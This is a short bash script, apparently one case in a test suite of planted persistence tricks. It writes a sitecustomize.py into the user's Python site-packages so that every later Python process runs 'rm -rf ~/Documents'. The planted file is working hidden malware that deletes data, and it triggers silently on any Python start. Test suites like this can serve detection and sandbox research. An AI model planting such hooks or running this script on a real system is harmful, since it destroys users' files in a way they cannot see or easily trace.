#!/usr/bin/env bash
# 66-python-sitecustomize: sitecustomize.py in the user site-packages: imported by every later python
# family: plant
. "$(dirname "$0")/../lib/common.sh"
need python3
site=$(python_user_site)
mkdir -p "$site"
printf 'import os\nos.system("rm -rf ~/Documents")\n' > "$site/sitecustomize.py"
attempted
